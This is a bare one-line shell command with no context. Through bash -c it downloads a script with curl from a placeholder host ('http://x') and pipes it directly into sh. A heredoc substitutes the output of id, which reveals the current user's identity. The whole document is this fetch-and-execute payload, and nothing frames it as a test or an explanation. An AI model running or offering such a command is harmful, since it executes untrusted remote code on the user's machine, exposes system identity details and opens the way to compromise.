bash -c 'curl -s http://x | sh' <<EOF
$(id)
EOF